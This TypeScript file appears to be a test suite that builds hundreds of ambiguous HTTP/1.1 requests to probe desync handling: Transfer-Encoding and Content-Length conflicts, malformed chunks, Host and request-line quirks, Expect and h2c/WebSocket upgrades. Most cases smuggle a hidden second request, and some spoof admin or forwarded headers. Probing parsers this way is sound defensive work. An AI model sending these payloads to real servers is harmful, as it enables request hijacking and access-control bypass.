/**
 * Requests that two readers may understand in two ways. The classes are public; the bytes are made here:
 * - RFC 9112, sections 2.2, 3.2, 5.1, 5.2, 6.1, 6.3, 7.1 and 11.2
 * - PortSwigger Research: "HTTP Desync Attacks" (2019), "Browser-Powered Desync Attacks" (2022, a length that is
 *   ignored), "HTTP/1.1 must die" (2025, early answers and `Expect`)
 * - github.com/defparam/smuggler: a byte at each of four places of `Transfer-Encoding`
 * - github.com/narfindustries/http-garden: lines that end by LF or CR, signs and prefixes of numbers
 * - "Funky chunks" (2025) and CVE-2024-22019: extensions of chunks
 * - github.com/BishopFox/h2csmuggler and github.com/0ang3el/websocket-smuggle: `Upgrade`
 */

export interface SmugglingCase {
  readonly name: string;
  /** latin1; `{host}` and `{path}` lead to the app, `{length}` is that of the body. */
  readonly bytes: string;
}

const HIDDEN = 'GET {path}hidden HTTP/1.1\r\nHost: {host}\r\n\r\n';

/** A body that ends at once for readers of chunks, and later for readers of lengths. */
const TWO_ENDS = `0\r\n\r\n${HIDDEN}`;

interface Parts {
  readonly line?: string;
  readonly host?: string;
  readonly fields?: string;
  readonly body?: string;
}

function request({ line, host, fields = '', body = '' }: Parts): string {
  return `${line ?? 'POST {path}outer HTTP/1.1'}\r\n${host ?? 'Host: {host}'}\r\n${fields}\r\n${body}`;
}

/** `field`: whole, without its end. With `Content-Length` before it. */
const both = (field: string, body = TWO_ENDS) =>
  request({ fields: `Content-Length: {length}\r\n${field}\r\n`, body });

const chunked = (body: string, coding = 'chunked') =>
  request({ fields: `Transfer-Encoding: ${coding}\r\n`, body });

const hex = (code: number) => code.toString(16).padStart(2, '0');

/** All control characters, space, delete, and all bytes above ASCII. */
const BYTES = [
  ...Array.from({ length: 0x21 }, (_, code) => code),
  ...Array.from({ length: 0x81 }, (_, n) => 0x7f + n),
];

function bytesAround(): SmugglingCase[] {
  return BYTES.flatMap((code) => {
    const byte = String.fromCharCode(code);
    const forms = {
      'before the name': `${byte}Transfer-Encoding: chunked`,
      'after the name': `Transfer-Encoding${byte}: chunked`,
      'before the value': `Transfer-Encoding:${byte}chunked`,
      'after the value': `Transfer-Encoding: chunked${byte}`,
    };
    return Object.entries(forms).map(([place, field]) => ({
      name: `byte ${hex(code)} ${place}`,
      bytes: both(field),
    }));
  });
}

const named = (group: string, forms: Readonly<Record<string, string>>): SmugglingCase[] =>
  Object.entries(forms).map(([name, bytes]) => ({ name: `${group}: ${name}`, bytes }));

const codings = named('coding', {
  plain: both('Transfer-Encoding: chunked'),
  'before the length': request({
    fields: `Transfer-Encoding: chunked\r\nContent-Length: {length}\r\n`,
    body: TWO_ENDS,
  }),
  'space in the name': both('Transfer Encoding: chunked'),
  'underscore in the name': both('Transfer_Encoding: chunked'),
  'capital letters': both('TRANSFER-ENCODING: CHUNKED'),
  'chunked last': both('Transfer-Encoding: gzip, chunked'),
  'chunked first': both('Transfer-Encoding: chunked, gzip'),
  twice: both('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'),
  'twice in one': both('Transfer-Encoding: chunked, chunked'),
  'identity first': both('Transfer-Encoding: identity\r\nTransfer-Encoding: chunked'),
  'identity last': both('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
  'only identity': both('Transfer-Encoding: identity'),
  quoted: both('Transfer-Encoding: "chunked"'),
  'in apostrophes': both("Transfer-Encoding: 'chunked'"),
  'a part of the word': both('Transfer-Encoding: chunk'),
  'a longer word': both('Transfer-Encoding: xchunked'),
  parameters: both('Transfer-Encoding: chunked;q=1'),
  'empty first': both('Transfer-Encoding:\r\nTransfer-Encoding: chunked'),
  'a comma first': both('Transfer-Encoding: , chunked'),
  folded: both('Transfer-Encoding:\r\n chunked'),
  'folded by LF': both('Transfer-Encoding:\n chunked'),
  'folded into another field': both('X-Other: a\r\n Transfer-Encoding: chunked'),
  'after CR in another field': both('X-Other: a\rTransfer-Encoding: chunked'),
  'after LF in another field': both('X-Other: a\nTransfer-Encoding: chunked'),
  'CR in the name': both('Transfer\r-Encoding: chunked'),
  'of another kind': both('Content-Encoding: chunked'),
  'named by Connection': both('Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'),
  'in HTTP/1.0': request({
    line: 'POST {path}outer HTTP/1.0',
    fields: 'Transfer-Encoding: chunked\r\n',
    body: TWO_ENDS,
  }),
  'long word of bytes above ASCII': both('Transfer-Encoding: ch\xfcnked'),
});

const FIVE = 'abcde';
const sized = (value: string, body = `${FIVE}${HIDDEN}`) =>
  request({ fields: `Content-Length:${value}\r\n`, body });

const lengths = named('length', {
  plain: sized(' 5', FIVE),
  'the same twice': sized(' 5\r\nContent-Length: 5'),
  'two lengths, short first': sized(' 5\r\nContent-Length: 50'),
  'two lengths, long first': sized(' 50\r\nContent-Length: 5'),
  'two in one': sized(' 5, 50'),
  'the same in one': sized(' 5, 5'),
  sign: sized(' +5'),
  negative: sized(' -5'),
  hexadecimal: sized(' 0x5'),
  'leading zeros': sized(' 0005', FIVE),
  exponent: sized(' 5e0'),
  fraction: sized(' 5.0'),
  'space inside': sized(' 5 0'),
  'vertical tab before': sized('\x0b5'),
  'vertical tab after': sized(' 5\x0b'),
  'null after': sized(' 5\0'),
  'CR after': sized(' 5\r'),
  'letters after': sized(' 5a'),
  empty: sized(''),
  'space before the colon': request({
    fields: 'Content-Length : 5\r\n',
    body: `${FIVE}${HIDDEN}`,
  }),
  underscore: request({ fields: 'Content_Length: 5\r\n', body: HIDDEN }),
  folded: sized('\r\n 5'),
  '64 bits and five': sized(' 18446744073709551621'),
  '32 bits and five': sized(' 4294967301', FIVE),
  'of a GET': request({
    line: 'GET {path}outer HTTP/1.1',
    fields: 'Content-Length: {length}\r\n',
    body: HIDDEN,
  }),
  'named by Connection': request({
    fields: 'Connection: Content-Length\r\nContent-Length: {length}\r\n',
    body: HIDDEN,
  }),
  'of a HEAD': request({
    line: 'HEAD {path}outer HTTP/1.1',
    fields: 'Content-Length: {length}\r\n',
    body: HIDDEN,
  }),
});

const END = '0\r\n\r\n';
const chunks = named('chunk', {
  plain: chunked(`5\r\nabcde\r\n${END}`),
  extension: chunked(`5;a=b\r\nabcde\r\n${END}`),
  'extension that ends by LF': chunked(`5;a\nbc\r\nabcde\r\n${END}${HIDDEN}`),
  'extension with CR': chunked(`5;a\rbc\r\nabcde\r\n${END}${HIDDEN}`),
  'extension in quotes over two lines': chunked(`5;a="\r\nabcde\r\n${END}"\r\n${HIDDEN}`),
  'head ends by LF': chunked(`5\nabcde\r\n${END}${HIDDEN}`),
  'head ends by CR': chunked(`5\rabcde\r\n${END}${HIDDEN}`),
  'data ends by LF': chunked(`5\r\nabcde\n${END}${HIDDEN}`),
  'data without end': chunked(`5\r\nabcde${END}${HIDDEN}`),
  'two bytes instead of the end': chunked(`5\r\nabcdeXX${END}${HIDDEN}`),
  'last ends by LF': chunked(`5\r\nabcde\r\n0\n\n${HIDDEN}`),
  'head with 0x': chunked(`0x5\r\nabcde\r\n${END}${HIDDEN}`),
  'head with a sign': chunked(`+5\r\nabcde\r\n${END}${HIDDEN}`),
  'negative head': chunked(`-5\r\nabcde\r\n${END}${HIDDEN}`),
  'head with space before': chunked(` 5\r\nabcde\r\n${END}`),
  'head with space after': chunked(`5 \r\nabcde\r\n${END}`),
  'head with tab after': chunked(`5\t\r\nabcde\r\n${END}`),
  'head with underscore': chunked(`0_5\r\nabcde\r\n${END}${HIDDEN}`),
  'head of 64 bits and five': chunked(`10000000000000005\r\nabcde\r\n${END}${HIDDEN}`),
  'head of 32 bits and five': chunked(`100000005\r\nabcde\r\n${END}${HIDDEN}`),
  'head with many zeros': chunked(`${'0'.repeat(40)}5\r\nabcde\r\n${END}`),
  'empty head': chunked(`\r\nabcde\r\n${END}${HIDDEN}`),
  'last with more zeros': chunked(`5\r\nabcde\r\n000\r\n\r\n`),
  'a field after it': chunked('5\r\nabcde\r\n0\r\nX-After: a\r\n\r\n'),
  'a length after it': chunked(`5\r\nabcde\r\n0\r\nContent-Length: 50\r\n\r\n${HIDDEN}`),
  'Host after it': chunked('5\r\nabcde\r\n0\r\nHost: other\r\n\r\n'),
  'field after it without colon': chunked(`5\r\nabcde\r\n0\r\n${HIDDEN}`),
  'field after it that ends by LF': chunked(`5\r\nabcde\r\n0\r\nX: a\n\r\n${HIDDEN}`),
});

const get = (parts: Parts) => request({ line: 'GET {path}outer HTTP/1.1', ...parts });

const heads = named('head', {
  'lines end by LF': 'GET {path}outer HTTP/1.1\nHost: {host}\n\n',
  'line ends by CR alone': 'GET {path}outer HTTP/1.1\rHost: {host}\r\n\r\n',
  'a line before it': `\r\n${get({})}`,
  'two Hosts': get({ host: 'Host: {host}\r\nHost: other.test' }),
  'two Hosts, the other first': get({ host: 'Host: other.test\r\nHost: {host}' }),
  'two equal Hosts': get({ host: 'Host: {host}\r\nHost: {host}' }),
  'no Host': 'GET {path}outer HTTP/1.1\r\nX: a\r\n\r\n',
  'Host with space before the colon': get({ host: 'Host : {host}' }),
  'Host with space before its name': get({ host: 'X: a\r\n Host: other.test\r\nHost: {host}' }),
  'Host with a user': get({ host: 'Host: other.test@{host}' }),
  'Host with a path': get({ host: 'Host: {host}/other' }),
  'Host with a comma': get({ host: 'Host: {host}, other.test' }),
  'Host with letters as port': get({ host: 'Host: {host}:80a' }),
  'Host with null': get({ host: 'Host: {host}\0.other.test' }),
  'absolute form': get({ line: 'GET http://{host}{path}outer HTTP/1.1' }),
  'absolute form of another host': get({ line: 'GET http://other.test{path}outer HTTP/1.1' }),
  'absolute form, Host of another': get({
    line: 'GET http://{host}{path}outer HTTP/1.1',
    host: 'Host: other.test',
  }),
  'path with space': get({ line: 'GET {path}a b HTTP/1.1' }),
  'path with tab': get({ line: 'GET {path}a\tb HTTP/1.1' }),
  'path with null': get({ line: 'GET {path}a\0b HTTP/1.1' }),
  'path with CR': get({ line: 'GET {path}a\rb HTTP/1.1' }),
  'path with a fragment': get({ line: 'GET {path}a#b HTTP/1.1' }),
  'path with bytes above ASCII': get({ line: 'GET {path}\xe4\xff HTTP/1.1' }),
  'encoded CR and LF in the path': get({
    line: 'GET {path}a%0d%0aX:%20b%0d%0a%0d%0aGET%20/hidden HTTP/1.1',
  }),
  'two spaces': get({ line: 'GET  {path}outer HTTP/1.1' }),
  'tab instead of a space': get({ line: 'GET\t{path}outer HTTP/1.1' }),
  'method with a colon': get({ line: 'GET: {path}outer HTTP/1.1' }),
  'small letters in the method': get({ line: 'get {path}outer HTTP/1.1' }),
  'unknown method': get({ line: 'MAKE {path}outer HTTP/1.1' }),
  'HTTP/0.9': 'GET {path}outer\r\n\r\n',
  'HTTP/1.2': get({ line: 'GET {path}outer HTTP/1.2' }),
  'HTTP/1.10': get({ line: 'GET {path}outer HTTP/1.10' }),
  'HTTP/2.0': get({ line: 'GET {path}outer HTTP/2.0' }),
  'HTTP/11': get({ line: 'GET {path}outer HTTP/11' }),
  'http in small letters': get({ line: 'GET {path}outer http/1.1' }),
  'space after the version': get({ line: 'GET {path}outer HTTP/1.1 ' }),
  'preface of HTTP/2': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'name with space': get({ fields: 'X Other: a\r\n' }),
  'name with brackets': get({ fields: 'X(Other): a\r\n' }),
  'empty name': get({ fields: ': a\r\n' }),
  'no colon': get({ fields: 'X-Other\r\n' }),
  'null in a value': get({ fields: 'X-Other: a\0b\r\n' }),
  'CR in a value': get({ fields: 'X-Other: a\rb\r\n' }),
  'folded value': get({ fields: 'X-Other: a\r\n b\r\n' }),
  'underscore twin of an own field': get({ fields: 'X_Dstack_User: admin\r\n' }),
  'underscore twin of a forwarded field': get({ fields: 'X_Forwarded_For: 6.6.6.6\r\n' }),
  'own field named by Connection': get({ fields: 'Connection: X-Forwarded-For\r\n' }),
  'Host named by Connection': get({ fields: 'Connection: Host\r\n' }),
});

const expectations = named('expect', {
  plain: request({ fields: 'Expect: 100-continue\r\nContent-Length: 5\r\n', body: FIVE }),
  'of a GET without a body': get({ fields: 'Expect: 100-continue\r\n' }),
  'with space': request({ fields: 'Expect: 100-continue \r\nContent-Length: 5\r\n', body: FIVE }),
  'other word': request({ fields: 'Expect: y 100-continue\r\nContent-Length: 5\r\n', body: FIVE }),
  'after LF': request({
    fields: 'Expect:\n 100-continue\r\nContent-Length: 5\r\n',
    body: FIVE,
  }),
  'body of chunks': request({
    fields: 'Expect: 100-continue\r\nTransfer-Encoding: chunked\r\n',
    body: `5\r\nabcde\r\n${END}`,
  }),
});

const KEY = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
const upgrades = named('upgrade', {
  'h2c with settings': get({
    fields:
      'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n',
  }),
  'h2c without settings in Connection': get({
    fields: 'Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n',
  }),
  'h2c with a hidden request': get({
    fields: 'Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n',
    body: HIDDEN,
  }),
  'h2c by POST': request({
    fields: 'Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\nContent-Length: 5\r\n',
    body: FIVE,
  }),
  'WebSocket of a wrong version': get({
    fields: `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 1777\r\n${KEY}`,
    body: HIDDEN,
  }),
  'WebSocket with a length': get({
    fields: `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n${KEY}Content-Length: 5\r\n`,
    body: `${FIVE}${HIDDEN}`,
  }),
  'WebSocket by POST': request({
    fields: `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n${KEY}Content-Length: 5\r\n`,
    body: `${FIVE}${HIDDEN}`,
  }),
  'without Connection': get({ fields: 'Upgrade: websocket\r\n' }),
});

/** Place holders are filled, and lengths are those of bodies as they are sent. */
export function bytesOf({ bytes }: SmugglingCase, host: string, path: string): Buffer {
  const filled = bytes.replaceAll('{host}', host).replaceAll('{path}', path);
  const body = filled.length - filled.indexOf('\r\n\r\n') - 4;
  return Buffer.from(filled.replaceAll('{length}', String(body)), 'latin1');
}

export const SMUGGLING_CASES: readonly SmugglingCase[] = [
  ...bytesAround(),
  ...[codings, lengths, chunks, heads, expectations, upgrades].flat(),
];
